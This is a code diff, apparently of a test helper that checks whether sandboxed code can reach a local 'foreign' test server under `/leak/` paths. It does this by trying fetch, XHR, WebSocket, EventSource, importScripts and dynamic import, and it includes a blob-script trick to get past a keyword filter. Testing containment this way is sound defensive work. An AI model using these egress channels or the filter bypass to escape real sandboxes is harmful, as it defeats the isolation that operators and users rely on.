@@ -29,14 +29,17 @@ export async function foreignServer() {
   return { host, hits, close: () => server.close() };
 }
 
-/** Code that tries all ways there are to reach these hosts, below `/leak/`, and tells which of them were `out`. */
-export function waysOut(hosts: readonly string[]): string {
+/**
+ * Code that tries all ways there are to reach these hosts, below `/leak/`, and tells in one word for each of the `count`
+ * ways what came of it, `out` among them, short enough not to be cut. It tries them all at once, so that none is left when its time is over.
+ */
+export function waysOut(hosts: readonly string[]): { readonly code: string; readonly count: number } {
   const ways = hosts.flatMap((host) => [
     `await fetch('http://${host}/leak/fetch', { mode: 'no-cors' }); return 'out'`,
     `await fetch('http://${host}/leak/fetch', { credentials: 'include' }); return 'out'`,
-    `return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('out'); it.onerror = () => done('refused'); it.open('GET', 'http://${host}/leak/xhr'); it.send(); })`,
-    `return await new Promise((done) => { const it = new WebSocket('ws://${host}/leak/ws'); it.onopen = () => done('out'); it.onerror = () => done('refused'); })`,
-    `return await new Promise((done) => { const it = new EventSource('http://${host}/leak/es'); it.onopen = () => done('out'); it.onerror = () => done('refused'); })`,
+    `return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('out'); it.onerror = () => done('no'); it.open('GET', 'http://${host}/leak/xhr'); it.send(); })`,
+    `return await new Promise((done) => { const it = new WebSocket('ws://${host}/leak/ws'); it.onopen = () => done('out'); it.onerror = () => done('no'); })`,
+    `return await new Promise((done) => { const it = new EventSource('http://${host}/leak/es'); it.onopen = () => done('out'); it.onerror = () => done('no'); })`,
     `importScripts('http://${host}/leak/scripts.js'); return 'out'`,
     // The word itself is refused before anything runs, so it comes in by a script of its own.
     `importScripts(URL.createObjectURL(new Blob(['self.load = (it) => import(it)']))); await load('http://${host}/leak/import.js'); return 'out'`,
@@ -45,7 +48,11 @@ export function waysOut(hosts: readonly string[]): string {
     `return typeof RTCPeerConnection`,
   ]);
   const tries = ways.map((way) => `async () => { ${way} }`).join(',\n');
-  return asking(
-    `const told = []; for (const way of [${tries}]) { try { told.push(await Promise.race([way(), new Promise((done) => setTimeout(() => done('late'), 400))])); } catch { told.push('refused'); } } return told.join(' ')`,
+  const code = asking(
+    `const told = [${tries}].map((way) => Promise.race([way(), new Promise((done) => setTimeout(() => done('late'), 400))]).catch(() => 'no')); return (await Promise.all(told)).join(' ')`,
   );
+  return { code, count: ways.length };
 }
+
+/** The words that follow `RESULT` in what the page says of the code above. */
+export const wordsTold = (text: string): readonly string[] => /RESULT (.*)/.exec(text)?.[1]?.trim().split(' ') ?? [];
